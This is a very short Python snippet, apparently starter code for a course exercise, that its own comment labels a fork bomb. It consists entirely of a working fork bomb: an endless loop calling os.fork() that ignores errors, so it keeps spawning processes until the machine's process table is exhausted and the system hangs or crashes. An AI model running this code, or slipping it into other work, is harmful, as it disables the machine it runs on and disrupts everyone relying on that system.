# due 0: a fork bomb
#: starter
import os
try:
    while True: os.fork()
except OSError: pass
